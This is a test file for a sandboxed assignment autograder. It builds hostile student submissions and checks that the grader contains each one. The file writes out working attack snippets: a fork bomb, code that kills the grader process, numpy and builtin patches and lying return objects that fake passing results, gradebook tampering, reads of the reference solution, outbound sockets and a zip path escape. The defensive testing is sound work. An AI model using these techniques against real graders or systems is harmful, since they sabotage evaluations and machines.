"""Hostile and broken submissions, graded in one run among honest ones.

Every hostile submission is a complete (full-marks) submission with one
injected change: in one function of k_nearest_neighbor.py, at its module
level, in the notebook, or in the zip that carries it.  So the cases it must
lose are known exactly: those of the function it broke and of the functions
that call that one (predict calls every distance function and predict_labels;
the notebook's cross-validation calls compute_distances_no_loops and
predict_labels).  The assignment's other parts (SVM, softmax, layers, the
two-layer net) must keep their points.  Code that attacks the grader, the
machine or the other students must cost no more than that; code whose
attack fails silently and then computes the right answer must cost nothing.

All of them are graded with the real command line, in one run, between two
untouched complete submissions (first and last), and each test checks one
thing in what that run wrote: grades.csv, gradebook.sqlite, feedback/.
"""
import csv
import hashlib
import json
import os
import pathlib
import shutil
import signal
import socket
import sqlite3
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
import uuid
import zipfile

import pytest

from grader.public.plan import all_units
from support import ASSIGNMENT

pytestmark = [pytest.mark.slow, pytest.mark.sandbox]  # one real grading run of the whole corpus
from make_submissions import apply, complete_copy
from grader.suites.assignment1.mutants import BROKEN, MUTANTS

KNN_FILE = os.path.join("cs231n", "classifiers", "k_nearest_neighbor.py")
NOTEBOOK = "knn.ipynb"
CV = "k_fold_cross_validation (knn.ipynb)"
# Who calls whom: a function that fails costs its own cases and those of its
# graded callers.  None here: the provided predict is not graded, and the
# notebook's cross-validation runs with the reference KNearestNeighbor.
CALLERS = {}
RUN_TIMEOUT = 120  # a grader that hangs fails the tests instead of blocking them


# --------------------------------------------------------------- expectations
def _qualified(function):
    return function if function == CV else f"KNearestNeighbor.{function}"


def own(*functions):
    """Expected loss: the cases of `functions` only (nothing calls what broke)."""
    return lambda cases: {c.name for c in cases if c.function in {_qualified(f) for f in functions}}


def broken(function):
    """Expected loss when `function` fails: its cases and those of its callers."""
    return own(function, *CALLERS.get(function, ()))


def everything(cases):
    return {c.name for c in cases}


def knn_cases(cases):
    """Every case of k_nearest_neighbor.py; not the notebook's cross-validation,
    which runs with the reference classifier, nor the other modules of
    cs231n/classifiers/, which the grader imports without the package's
    __init__ when that fails."""
    return {c.name for c in cases if c.function.startswith("KNearestNeighbor.")}


def importing_knn(cases, seed=0):
    """Every case whose worker runs k_nearest_neighbor.py on its way: the
    notebook imports cs231n.classifiers, and that package's __init__ imports
    k_nearest_neighbor, so every module of cs231n/classifiers/ does too.  A
    module that ends the process when it is imported costs all of these."""
    def touches(case):
        if KNN_FILE in case.lends:
            return False
        wire, _ = case.build(seed)
        imports = [unit for unit in all_units(wire) if unit.startswith("import ")]
        return any(unit[7:].startswith(("cs231n.classifiers", NOTEBOOK)) for unit in imports)
    return {c.name for c in cases if touches(c)}


def nothing(cases):
    return set()


def hidden_cross_validation(cases):
    return {c.name for c in cases if c.function == CV and c.hidden}


def mutant(name):
    return lambda cases: set(MUTANTS[name].breaks)


# ------------------------------------------------------------------ builders
# Injected code is written with @NAME@ placeholders, filled from the run's
# context (`Context`): hostile code can only hard-code what it wants to reach.
def _fill(code, ctx):
    code = textwrap.dedent(code).strip("\n")
    for key, value in vars(ctx).items():
        code = code.replace(f"@{key.upper()}@", str(value))
    return code


def _complete(dest, ctx):
    return complete_copy(ctx.solution, dest)


def _edit(path, old, new):
    with open(path) as f:
        text = f.read()
    assert text.count(old) == 1, f"{old!r} found {text.count(old)} times in {path}"
    with open(path, "w") as f:
        f.write(text.replace(old, new))


def in_method(method, code):
    """Code run first thing in KNearestNeighbor.`method` (the rest unchanged)."""
    def build(dest, ctx):
        root = _complete(dest, ctx)
        head = f"    def {method}(self, "
        with open(os.path.join(root, KNN_FILE)) as f:
            line = next(l for l in f if l.startswith(head))
        _edit(os.path.join(root, KNN_FILE), line, line + textwrap.indent(_fill(code, ctx), " " * 8) + "\n")
        return root
    return build


def at_import(code, then=None):
    """Code run when k_nearest_neighbor.py is imported; `then` plants a mutant too."""
    def build(dest, ctx):
        root = _complete(dest, ctx)
        _edit(os.path.join(root, KNN_FILE), "import numpy as np\n", "import numpy as np\n" + _fill(code, ctx) + "\n")
        if then:
            apply(MUTANTS[then], root)
        return root
    return build


def with_mutant(group, name):
    def build(dest, ctx):
        root = _complete(dest, ctx)
        apply(group[name], root)
        return root
    return build


def in_cross_validation(old, new):
    """Replace `old` by `new` in the notebook's k_fold_cross_validation cell."""
    def build(dest, ctx):
        root = _complete(dest, ctx)
        path = os.path.join(root, NOTEBOOK)
        with open(path) as f:
            notebook = json.load(f)
        cell, = [c for c in notebook["cells"] if "def k_fold_cross_validation" in "".join(c["source"])]
        source = "".join(cell["source"])
        assert source.count(old) == 1
        cell["source"] = source.replace(old, textwrap.indent(textwrap.dedent(new).strip("\n"), " " * 4))
        with open(path, "w") as f:
            json.dump(notebook, f, indent=1)
        return root
    return build


def malformed_notebook(dest, ctx):
    root = _complete(dest, ctx)
    with open(os.path.join(root, NOTEBOOK), "w") as f:
        f.write('{"cells": [')
    return root


def missing_knn_file(dest, ctx):
    root = _complete(dest, ctx)
    os.remove(os.path.join(root, KNN_FILE))
    return root


def _zip_of_complete(dest, ctx, extra=()):
    """dest.zip holding a complete submission in a folder, plus `extra` (name, text) members."""
    folder = _complete(dest + ".folder", ctx)
    with zipfile.ZipFile(dest + ".zip", "w", zipfile.ZIP_DEFLATED) as archive:
        for current, _, names in os.walk(folder):
            for name in sorted(names):
                path = os.path.join(current, name)
                archive.write(path, os.path.join("assignment1", os.path.relpath(path, folder)))
        for name, text in extra:
            archive.writestr(name, text)
    shutil.rmtree(folder)
    return dest + ".zip"


def corrupt_zip(dest, ctx):
    """A real zip whose compressed k_nearest_neighbor.py is damaged (zipfile
    still recognises it as a zip; unpacking it fails)."""
    path = _zip_of_complete(dest, ctx)
    with zipfile.ZipFile(path) as archive:
        info = archive.getinfo(f"assignment1/{KNN_FILE}")
    with open(path, "rb") as f:
        data = bytearray(f.read())
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    for i in range(start, start + 64):
        data[i] ^= 0x5A
    with open(path, "wb") as f:
        f.write(data)
    return path


def not_a_zip(dest, ctx):
    with open(dest + ".zip", "wb") as f:
        f.write(os.urandom(4096))
    return dest + ".zip"


def zip_escaping_its_folder(dest, ctx):
    escape = "../" * 40 + ctx.escape.lstrip("/")
    return _zip_of_complete(dest, ctx, extra=[(escape, f"# {ctx.marker}\n")])


# ------------------------------------------------------------- hostile code
FORK_BOMB = """
import os
while True:
    os.fork()
"""

# Children that leave the function the way it does: by raising, through the
# worker's own code.  Only the process the grader started may answer it.
FORK_AND_RAISE = """
import os
for _ in range(8):
    if os.fork() == 0:
        break
raise RuntimeError("forked")
"""

KILL_THE_GRADER = """
import os, signal
killed = 0
for pid in os.listdir("/proc"):  # no /proc in the sandbox
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            command = f.read().replace(b"\\0", b" ")
    except OSError:
        continue
    if b"grader grade" in command:
        os.kill(int(pid), signal.SIGKILL)
        killed += 1
if not killed:
    raise LookupError("no grader process to kill")
"""

FLOOD_STDOUT = """
import os, sys
chunk = "x" * 2**20
for _ in range(100):
    sys.stdout.write(chunk)
    sys.stderr.write(chunk)
sys.stdout.flush()
os.write(1, b"y" * 100 * 2**20)
"""

PATCH_NUMPY_AND_BUILTINS = """
import builtins
np.allclose = lambda *args, **kwargs: True
np.array_equal = lambda *args, **kwargs: True
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(a, b).shape, dtype=bool)
np.testing.assert_allclose = lambda *args, **kwargs: None
np.abs = np.absolute = lambda x, *args, **kwargs: np.zeros_like(x)
builtins.abs = lambda x: 0
builtins.sum = lambda *args, **kwargs: 0
builtins.round = lambda *args, **kwargs: 0
"""

FAKE_SCORE = """
import json as _json, os as _os, sys as _sys
_FAKE = _json.dumps({"score": 24, "max_score": 24, "tests": [], "output": "All tests passed"})
print(_FAKE)
print("Score: 24 / 24")
_sys.stderr.write(_FAKE + "\\n")
_os.write(1, (_json.dumps({"outputs": {"out": [[0.0]]}}) + "\\n").encode())
"""

WRITE_OUTSIDE = """
def _attack():
    import os, sqlite3
    def attempt(action):
        try:
            action()
        except Exception:
            pass
    def write(path, text, mode="w"):
        with open(path, mode) as f:
            f.write(text)
    def zero_everyone():
        db = sqlite3.connect("@OUT@/gradebook.sqlite")
        db.execute("UPDATE submissions SET score = 0")
        db.commit()
    attempt(lambda: write("@OUT@/@MARKER@.txt", "@MARKER@"))
    attempt(lambda: write("@OUT@/grades.csv", "complete_first,0,0 @MARKER@\\n", "a"))
    attempt(lambda: write("@OUT@/feedback/complete_first.md", "@MARKER@"))
    attempt(lambda: os.makedirs("@OUT@/complete_first", exist_ok=True))
    attempt(lambda: write("@OUT@/complete_first/results.json", '{"score": 0, "output": "@MARKER@"}'))
    attempt(zero_everyone)
    attempt(lambda: write("@VICTIM@", "raise SystemExit  # @MARKER@\\n"))
    attempt(lambda: write("@REPO@/@MARKER@.txt", "@MARKER@"))
_attack()
"""

READ_THE_REFERENCE = """
with open("@REPO@/grader/suites/assignment1_hidden.py") as f:
    hidden_suite = f.read()
reference = {}
with open("@SOLUTION@/cs231n/classifiers/k_nearest_neighbor.py") as f:
    exec(f.read(), reference)
return reference["KNearestNeighbor"].compute_distances_one_loop(self, X)
"""

IMPORT_THE_GRADER = """
import importlib
for name in ("grader", "grader.suites.assignment1_hidden", "solutions"):
    importlib.import_module(name)
"""

INSPECT_THE_STACK = """
import gc, inspect, sys
WANTED = ("expected", "references", "reference", "expected_outputs")
frame = sys._getframe()
while frame is not None:
    for name in WANTED:
        if name in frame.f_locals:
            return frame.f_locals[name]
    frame = frame.f_back
for info in inspect.stack():
    for name in WANTED:
        if name in info.frame.f_locals:
            return info.frame.f_locals[name]
for obj in gc.get_objects():
    if isinstance(obj, dict) and "references" in obj:
        return obj["references"]
raise LookupError("no expected values anywhere in the worker")
"""

SOCKET_TO_LOCALHOST = """
import socket
with socket.create_connection(("127.0.0.1", @PORT@), timeout=0.5) as connection:
    connection.sendall(b"@MARKER@")
"""

SOCKET_TO_THE_INTERNET = """
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"@MARKER@", ("8.8.8.8", 53))
socket.create_connection(("1.1.1.1", 53), timeout=0.5).close()
"""

LYING_ARRAY = """
import os

class Lying(np.ndarray):
    # equal to anything; every hook a grader might call on it ends the process
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __array__(self, *args, **kwargs):
        os._exit(13)
    def __array_ufunc__(self, *args, **kwargs):
        os._exit(13)
    def __array_function__(self, *args, **kwargs):
        os._exit(13)
    def __reduce__(self):
        os._exit(13)
    def tolist(self):
        os._exit(13)

return np.zeros((X.shape[0], self.X_train.shape[0])).view(Lying)
"""

LYING_DICT = """
class Perfect(dict):
    # reports a perfect accuracy for every k and fold, and equals anything
    def items(self):
        return [(k, [1.0] * len(v)) for k, v in dict.items(self)]
    def values(self):
        return [v for _, v in self.items()]
    def __getitem__(self, k):
        return [1.0] * len(dict.__getitem__(self, k))
    def __eq__(self, other):
        return True
return Perfect(k_to_accuracies)
"""


complete = _complete

# name, builder, expected loss (computed from the suite's cases)
SUBMISSIONS = [
    ("complete_first", complete, nothing),
    ("infinite_loop_in_one_loop", with_mutant(BROKEN, "infinite_loop"), broken("compute_distances_one_loop")),
    ("sys_exit_in_two_loops", in_method("compute_distances_two_loops", "import sys\nsys.exit('done')"),
     broken("compute_distances_two_loops")),
    ("os_exit_in_no_loops", in_method("compute_distances_no_loops", "import os\nos._exit(0)"),
     broken("compute_distances_no_loops")),
    # In the sandbox its parent is out of sight (getppid() is 0): the kill
    # reaches no grader process; then it raises, whatever happened.
    ("kills_its_parent_in_predict_labels",
     in_method("predict_labels", "import os\nos.kill(os.getppid(), 9)\nraise RuntimeError('still alive')"),
     broken("predict_labels")),
    ("kills_the_grader_found_in_proc", in_method("compute_distances_one_loop", KILL_THE_GRADER),
     broken("compute_distances_one_loop")),
    # Contained by the time limit and the PID namespace (measured here: a few
    # hundred processes at --time-scale 0.1, about 1300 at full time limits).
    ("fork_bomb_in_one_loop", in_method("compute_distances_one_loop", FORK_BOMB),
     broken("compute_distances_one_loop")),
    ("forks_children_that_raise_in_one_loop", in_method("compute_distances_one_loop", FORK_AND_RAISE),
     broken("compute_distances_one_loop")),
    ("memory_bomb_in_two_loops",
     in_method("compute_distances_two_loops", "np.ones(50 * 2**30 // 8)"), broken("compute_distances_two_loops")),
    # 100 MB to stdout and to stderr per call, then the right answer.
    ("floods_stdout_in_two_loops", in_method("compute_distances_two_loops", FLOOD_STDOUT), nothing),
    # Squared distances: every distance value case fails, but the nearest
    # neighbours, so the votes, are unchanged, and the no-loop code still
    # has no loop.
    ("replaces_np_sqrt_at_import", at_import("np.sqrt = lambda x, *args, **kwargs: x"),
     lambda cases: own("compute_distances_two_loops", "compute_distances_one_loop",
                       "compute_distances_no_loops")(cases) - {"no_loops_has_no_loops"}),
    # Comparisons run in the grader: the patches rescue nothing of a real bug.
    ("patches_numpy_and_builtins_to_agree",
     at_import(PATCH_NUMPY_AND_BUILTINS, then="two_loops_forgets_sqrt"), mutant("two_loops_forgets_sqrt")),
    ("prints_a_fake_score",
     in_method("compute_distances_two_loops", FAKE_SCORE + '\nreturn {"score": 24, "output": "All tests passed"}'),
     broken("compute_distances_two_loops")),
    # Every write fails silently in the sandbox; the code is otherwise right.
    ("writes_to_the_output_folder_and_another_student", at_import(WRITE_OUTSIDE), nothing),
    ("reads_the_reference_solution", in_method("compute_distances_one_loop", READ_THE_REFERENCE),
     broken("compute_distances_one_loop")),
    ("imports_the_grader", in_method("compute_distances_two_loops", IMPORT_THE_GRADER),
     broken("compute_distances_two_loops")),
    ("inspects_stack_frames", in_method("compute_distances_one_loop", INSPECT_THE_STACK),
     broken("compute_distances_one_loop")),
    ("opens_a_socket_to_localhost", in_method("compute_distances_two_loops", SOCKET_TO_LOCALHOST),
     broken("compute_distances_two_loops")),
    ("opens_a_socket_to_the_internet", in_method("compute_distances_one_loop", SOCKET_TO_THE_INTERNET),
     broken("compute_distances_one_loop")),
    ("returns_an_array_that_lies", in_method("compute_distances_no_loops", LYING_ARRAY),
     broken("compute_distances_no_loops")),
    # Perfect accuracies of the right shape: the public shape check passes.
    ("returns_a_dict_that_lies", in_cross_validation("    return k_to_accuracies", LYING_DICT),
     hidden_cross_validation),
    ("malformed_notebook", malformed_notebook, own(CV)),
    ("missing_knn_file", missing_knn_file, knn_cases),
    # sys.exit() at import fails the import like any exception (SystemExit is one for the student's code) ...
    ("sys_exit_at_import", at_import("import sys\nsys.exit()"), knn_cases),
    # ... but os._exit() ends the worker in every import that runs the file.
    ("os_exit_at_import", at_import("import os\nos._exit(3)"), importing_knn),
    ("corrupt_zip", corrupt_zip, everything),
    ("not_a_zip", not_a_zip, everything),
    ("zip_escaping_its_folder", zip_escaping_its_folder, everything),
    ("complete_last", complete, nothing),
]
STUDENTS = [name for name, _, _ in SUBMISSIONS]

# Runs the real command line as a child of a subreaper, so that any process
# the run leaves behind (a worker, a fork bomb's child) is found and named.
SUBREAPER = r"""
import ctypes, json, os, signal, subprocess, sys, time
ctypes.CDLL(None).prctl(36, 1, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER
report, command = sys.argv[1], sys.argv[2:]
code = subprocess.call(command)
def children():
    found = {}
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/stat") as f:
                stat = f.read().rsplit(")", 1)[1].split()
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                cmdline = f.read().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if int(stat[1]) == os.getpid() and stat[0] != "Z":
            found[int(pid)] = cmdline
    return found
deadline = time.monotonic() + 2
while True:
    while True:
        try:
            if os.waitpid(-1, os.WNOHANG)[0] == 0:
                break
        except ChildProcessError:
            break
    left = children()
    if not left or time.monotonic() > deadline:
        break
    time.sleep(0.05)
for pid in left:
    os.kill(pid, signal.SIGKILL)
with open(report, "w") as f:
    json.dump({"returncode": code, "leftover": left}, f)
sys.exit(code)
"""


class Context:
    def __init__(self, **values):
        self.__dict__.update(values)


class Listener:
    """A TCP server on 127.0.0.1 that records every connection it receives."""

    def __init__(self):
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.1)
        self.port = self.sock.getsockname()[1]
        self.received, self._stop = [], threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self):
        while not self._stop.is_set():
            try:
                connection, _ = self.sock.accept()
            except socket.timeout:
                continue
            with connection:
                connection.settimeout(1)
                try:
                    self.received.append(connection.recv(4096))
                except OSError:
                    self.received.append(b"")

    def close(self):
        self._stop.set()
        self._thread.join()
        self.sock.close()


def _tree_digest(root):
    digest = hashlib.sha256()
    for folder, dirs, names in sorted(os.walk(root)):
        dirs.sort()
        for name in sorted(names):
            with open(os.path.join(folder, name), "rb") as f:
                digest.update(name.encode() + hashlib.sha256(f.read()).digest())
    return digest.hexdigest()


def unavailable(reason):
    """On a laptop without what a mode needs this is a skip; in CI, where the
    containment is what these tests are about, its absence is a failure."""
    (pytest.fail if os.environ.get("CI") else pytest.skip)(reason)


# The corpus runs twice: in the namespace sandbox, and where the kernel refuses
# namespaces (as in Gradescope's container) and a root grader gives each
# submission a user of its own (see grader.public.accounts).
MODES = {"namespaces": [], "no namespaces": [sys.executable, os.path.join(os.path.dirname(__file__),
                                                                           "without_namespaces.py")]}


@pytest.fixture(scope="module", params=list(MODES))
def graded(request, repo, server):
    """Every submission of SUBMISSIONS, graded in one run of `python -m grader grade`."""
    mode = request.param
    if mode == "namespaces" and not server.isolated:
        unavailable(f"hostile submissions need the grader's sandbox ({server.sandbox})")
    if mode == "no namespaces" and os.geteuid() != 0:
        unavailable("without namespaces, only a root grader contains student code (a user per submission)")
    # A folder any user may cross, as a class's folder often is: what keeps a
    # worker out of the output folder and the other submissions is the grader.
    base = pathlib.Path(tempfile.mkdtemp(prefix="hostile-", dir="/tmp"))
    base.chmod(0o755)
    request.addfinalizer(lambda: shutil.rmtree(base, ignore_errors=True))
    submissions, out = base / "submissions", base / "out"
    submissions.mkdir()
    listener = Listener()
    ctx = Context(out=out, repo=repo, solution=os.path.join(repo, "solutions", ASSIGNMENT), port=listener.port,
                  marker=f"HOSTILE-{uuid.uuid4().hex}", escape=str(base / "escaped.py"),
                  victim=submissions / "complete_last" / KNN_FILE)
    paths = [builder(str(submissions / name), ctx) for name, builder, _ in SUBMISSIONS]
    assert [os.path.basename(p).removesuffix(".zip") for p in paths] == STUDENTS
    victim_before = _tree_digest(submissions / "complete_last")
    command = [sys.executable, "-m", "grader", "grade", "--assignment", ASSIGNMENT, "--out", str(out),
               "--jobs", "2", "--no-progress", "--time-scale", "0.1", *paths]
    began = time.monotonic()
    process = subprocess.Popen([sys.executable, "-c", SUBREAPER, str(base / "reaper.json"), *MODES[mode], *command],
                               cwd=repo,
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True)
    try:
        stdout, stderr = process.communicate(timeout=RUN_TIMEOUT)
    except subprocess.TimeoutExpired:  # a hung grader: end the run (its group), report what it said
        os.killpg(process.pid, signal.SIGKILL)
        stdout, stderr = process.communicate()
        stderr += f"\n[the grading run did not end within {RUN_TIMEOUT} s]"
    finally:
        listener.close()
    result = subprocess.CompletedProcess(process.args, process.returncode, stdout, stderr)
    seconds = time.monotonic() - began
    reaper = json.loads((base / "reaper.json").read_text()) if (base / "reaper.json").exists() else {}
    return Context(mode=mode, result=result, seconds=seconds, out=out, ctx=ctx, listener=listener, reaper=reaper,
                   victim_before=victim_before, victim_after=_tree_digest(submissions / "complete_last"))


@pytest.fixture(scope="module")
def grades(graded):
    """{student: {column: value}} from grades.csv."""
    path = graded.out / "grades.csv"
    assert path.exists(), f"no grades.csv: the run ended with {graded.result.returncode}\n{graded.result.stderr}"
    with open(path) as f:
        return {row["student"]: row for row in csv.DictReader(f)}


@pytest.fixture(scope="module")
def gradebook(graded):
    """{student: {case: (score, status, message)}} from gradebook.sqlite."""
    db = sqlite3.connect(graded.out / "gradebook.sqlite")
    book = {}
    for student, case, score, status, message in db.execute(
            "SELECT student, case_name, score, status, message FROM results"):
        book.setdefault(student, {})[case] = (score, status, message)
    db.close()
    return book


def lost(row, cases):
    return {c.name for c in cases if row.get(c.name) in (None, "") or float(row[c.name]) == 0}


# ---------------------------------------------------------------------- tests
def test_the_grading_run_ends_normally(graded):
    assert graded.result.returncode == 0, graded.result.stdout + graded.result.stderr
    assert "Traceback" not in graded.result.stderr


def test_the_run_reports_how_workers_were_contained(graded):
    expected = {"namespaces": "Sandbox: namespaces",
                "no namespaces": "Sandbox: a user of its own per submission"}[graded.mode]
    assert expected in graded.result.stdout


def test_every_student_has_exactly_one_row_in_grades_csv(grades):
    assert sorted(grades) == sorted(STUDENTS)


@pytest.mark.parametrize("name, expected", [(n, e) for n, _, e in SUBMISSIONS], ids=STUDENTS)
def test_each_submission_loses_exactly_the_cases_its_code_breaks(grades, cases, name, expected):
    assert name in grades, f"{name} has no row in grades.csv"
    assert lost(grades[name], cases) == expected(cases)


@pytest.mark.parametrize("name, expected", [(n, e) for n, _, e in SUBMISSIONS], ids=STUDENTS)
def test_each_total_is_the_sum_of_the_cases_it_passed(grades, cases, name, expected):
    total = sum(c.points for c in cases if c.name not in expected(cases))
    assert float(grades[name]["score"]) == total
    assert float(grades[name]["max_score"]) == sum(c.points for c in cases)


def test_untouched_submissions_graded_first_and_last_score_full_marks(grades):
    for name in ("complete_first", "complete_last"):
        assert grades[name]["score"] == grades[name]["max_score"]


def test_the_gradebook_agrees_with_grades_csv_case_by_case(grades, gradebook, cases):
    for student, row in grades.items():
        assert {case: score for case, (score, _, _) in gradebook[student].items()} == \
            {c.name: float(row[c.name]) for c in cases}, student


def test_each_feedback_file_states_the_score_in_grades_csv(graded, grades):
    for student, row in grades.items():
        feedback = (graded.out / "feedback" / f"{student}.md").read_text()
        assert f"**Score: {row['score']} / {row['max_score']}**" in feedback, student


EXPLAINED = [  # student, function (None: any), the status of a case it lost, words its message holds
    ("infinite_loop_in_one_loop", "compute_distances_one_loop", "timeout", "did not finish"),
    # A root grader runs student code as `nobody` under RLIMIT_NPROC: the bomb's forks
    # soon fail (an error), unless a loaded machine lets the time limit come first.
    # Without root the time limit stops it.  Either way the PID namespace takes it down.
    ("fork_bomb_in_one_loop", "compute_distances_one_loop",
     ("error", "timeout") if os.geteuid() == 0 else ("timeout",), ("Resource temporarily unavailable", "did not finish")),
    ("sys_exit_in_two_loops", "compute_distances_two_loops", "error", "SystemExit"),
    ("os_exit_in_no_loops", "compute_distances_no_loops", "crashed", "worker process ended"),
    # Without namespaces its parent is the root fork server: the kill itself is refused.
    ("kills_its_parent_in_predict_labels", "predict_labels", "error", ("still alive", "Operation not permitted")),
    ("kills_the_grader_found_in_proc", "compute_distances_one_loop", "error", ""),
    # Eight forks of a worker that holds numpy: on a loaded machine the time limit may come first.
    ("forks_children_that_raise_in_one_loop", "compute_distances_one_loop", ("error", "timeout"),
     ("forked", "did not finish")),
    ("memory_bomb_in_two_loops", "compute_distances_two_loops", "error", "MemoryError"),
    ("prints_a_fake_score", "compute_distances_two_loops", "failed", "not an array of numbers"),
    # Not in the sandbox's file system; unreadable to a worker user without it.
    ("reads_the_reference_solution", "compute_distances_one_loop", "error", ("FileNotFoundError", "PermissionError")),
    ("imports_the_grader", "compute_distances_two_loops", "error", "ModuleNotFoundError"),
    ("inspects_stack_frames", "compute_distances_one_loop", "error", "LookupError"),
    ("opens_a_socket_to_localhost", "compute_distances_two_loops", "error", "unreachable"),
    ("opens_a_socket_to_the_internet", "compute_distances_one_loop", "error", "unreachable"),
    ("returns_an_array_that_lies", "compute_distances_no_loops", "failed", "values are wrong"),
    ("returns_a_dict_that_lies", CV, "failed", "values are wrong"),
    ("malformed_notebook", CV, "error", "not a valid notebook file"),
    ("missing_knn_file", "compute_distances_two_loops", "error", "ModuleNotFoundError"),
    ("sys_exit_at_import", "compute_distances_two_loops", "error", "SystemExit"),
    ("os_exit_at_import", "compute_distances_two_loops", "crashed", "worker process ended"),
    ("corrupt_zip", None, "error", "could not be opened"),
    ("not_a_zip", None, "error", "could not be opened"),
    ("zip_escaping_its_folder", None, "error", "a path outside its folder"),
]


@pytest.mark.parametrize("student, function, status, words", EXPLAINED, ids=[row[0] for row in EXPLAINED])
def test_a_lost_case_is_explained_as_what_the_code_did(gradebook, cases, student, function, status, words):
    names = own(function)(cases) if function else everything(cases)
    outcomes = [(score, got, message) for case, (score, got, message) in gradebook[student].items() if case in names]
    statuses = status if isinstance(status, tuple) else (status,)
    phrases = words if isinstance(words, tuple) else (words,)
    assert any(score == 0 and got in statuses and any(w in message for w in phrases)
               for score, got, message in outcomes), outcomes


def test_an_array_that_lies_is_judged_by_its_values_alone(gradebook, cases):
    """Its own cases fail as wrong answers: nothing in the transfer ran its methods."""
    no_loops = own("compute_distances_no_loops")(cases)
    assert {gradebook["returns_an_array_that_lies"][c][1] for c in no_loops} == {"failed"}


def test_what_submissions_print_never_reaches_the_graders_output(graded):
    output = graded.result.stdout + graded.result.stderr
    assert len(output) < 100_000
    assert "Score: 24 / 24" not in output and "x" * 1000 not in output and "y" * 1000 not in output


def test_nothing_a_submission_wrote_reached_the_output_folder(graded):
    marker = graded.ctx.marker.encode()
    for folder, _, names in os.walk(graded.out):
        for name in names:
            assert graded.ctx.marker not in name
            with open(os.path.join(folder, name), "rb") as f:
                assert marker not in f.read(), os.path.join(folder, name)


def test_nothing_a_submission_wrote_reached_the_repository(graded, repo):
    assert not os.path.exists(os.path.join(repo, f"{graded.ctx.marker}.txt"))


def test_another_students_files_are_unchanged(graded):
    assert graded.victim_after == graded.victim_before


def test_no_connection_reached_the_local_listener(graded):
    assert graded.listener.received == []


def test_a_zip_cannot_write_outside_its_folder(graded):
    assert not os.path.exists(graded.ctx.escape)


def test_no_process_started_by_the_run_outlives_it(graded):
    assert graded.reaper.get("leftover", {}) == {}
